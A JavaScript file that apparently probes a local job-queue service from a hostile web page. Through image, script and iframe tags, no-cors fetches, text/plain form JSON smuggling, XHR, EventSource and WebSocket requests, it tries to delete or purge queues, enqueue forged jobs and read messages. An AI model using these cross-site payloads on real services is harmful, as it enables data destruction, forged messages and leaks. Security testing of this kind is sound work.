// What a page can try on a server, each until the browser says how it went. Returns what the page got to see.

const JOB = JSON.stringify({ queue: "mail", task: "forged" });
const SEND = "Action=SendMessage&MessageBody=forged";
const FORM = { "Content-Type": "application/x-www-form-urlencoded" };

function element(name, attributes) {
  return new Promise((resolve) => {
    const made = document.createElement(name);
    made.onload = () => resolve(`${name} loaded ${made.naturalWidth ?? ""} ${inside(made)}`);
    made.onerror = () => resolve(`${name} failed`);
    Object.assign(made, attributes);
    document.body.append(made);
  });
}

function inside(made) {
  try {
    return made.contentDocument?.body?.innerText ?? "";
  } catch {
    return "unreadable";
  }
}

// A form can hold any text in the type text/plain: the name of its field, "=", and the value.
function submit(action, fields, type) {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = `frame${document.forms.length}`;
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", action, target: frame.name, enctype: type });
    for (const [name, value] of Object.entries(fields)) {
      form.append(Object.assign(document.createElement("input"), { name, value }));
    }
    document.body.append(form);
    frame.onload = () => resolve(`form ${inside(frame)}`);
    form.submit();
  });
}

async function request(url, options) {
  try {
    const answer = await fetch(url, options);
    return `fetch ${answer.type} ${answer.status} ${await answer.text()}`;
  } catch (error) {
    return `fetch ${error}`;
  }
}

function exchange(method, url, type, body) {
  return new Promise((resolve) => {
    const made = new XMLHttpRequest();
    made.onloadend = () => resolve(`xhr ${made.status} ${made.responseText}`);
    made.open(method, url);
    made.setRequestHeader("Content-Type", type);
    made.send(body);
  });
}

function events(url) {
  return new Promise((resolve) => {
    const source = new EventSource(url);
    const end = (said) => {
      source.close();
      resolve(`events ${said}`);
    };
    source.onerror = () => end("failed");
    source.onopen = () => end("open");
    source.onmessage = (event) => end(event.data);
  });
}

function socket(url) {
  return new Promise((resolve) => {
    const made = new WebSocket(url.replace("http", "ws"));
    made.onclose = (event) => resolve(`socket closed ${event.code}`);
    made.onmessage = (event) => resolve(`socket ${event.data}`);
  });
}

async function attack({ base, queue, job }) {
  const opaque = { method: "POST", mode: "no-cors", keepalive: true };
  const target = { "X-Amz-Target": "AmazonSQS.ReceiveMessage", "Content-Type": "application/x-amz-json-1.0" };
  const pages = ["/stats", "/metrics", "/v1/queues/orders/messages", `/v1/jobs/${job}`, "/v1/queues", "/openapi.json"];
  return await Promise.all([
    element("img", { src: `${queue}?Action=DeleteQueue` }),
    element("img", { src: `${queue}?Action=PurgeQueue` }),
    element("img", { src: `${queue}?${SEND}` }),
    element("img", { src: `${queue}?Action=ReceiveMessage` }),
    element("script", { src: `${queue}?Action=ReceiveMessage` }),
    element("iframe", { src: `${queue}?Action=ReceiveMessage` }),
    ...pages.map((page) => element("script", { src: base + page })),
    ...pages.map((page) => element("iframe", { src: base + page })),
    ...pages.map((page) => request(base + page)),
    ...pages.map((page) => request(base + page, { mode: "no-cors" })),
    request(`${queue}?Action=ReceiveMessage`),
    submit(queue, { Action: "SendMessage", MessageBody: "forged" }, "application/x-www-form-urlencoded"),
    submit(`${base}/v1/jobs`, { '{"queue":"mail","task":"': '"}' }, "text/plain"),
    submit(`${base}/_penstock/clock/advance`, { '{"seconds":9,"ms":1': '"}' }, "text/plain"),
    request(queue, { ...opaque, headers: FORM, body: SEND }),
    request(`${base}/v1/jobs`, { ...opaque, headers: { "Content-Type": "text/plain" }, body: JOB }),
    request(`${base}/v1/jobs`, { ...opaque, body: new Blob([JOB]) }),
    request(`${base}/v1/dequeue`, { ...opaque, body: JSON.stringify({ queues: ["mail"] }) }),
    request(`${base}/enqueue`, { ...opaque, body: JOB }),
    request(`${base}/_penstock/clock/advance`, { ...opaque, body: JSON.stringify({ seconds: 3600 }) }),
    request(`${base}/v1/queues/mail`, { method: "DELETE" }),
    request(base, { method: "POST", headers: target, body: JSON.stringify({ QueueUrl: queue }) }),
    exchange("POST", `${base}/v1/jobs`, "application/json", JOB),
    exchange("POST", queue, "application/x-www-form-urlencoded", "Action=ReceiveMessage"),
    exchange("GET", `${base}/v1/queues/orders/messages`, "text/plain", null),
    events(`${base}/v1/jobs/${job}/events`),
    socket(`${base}/v1/stream`),
  ]);
}
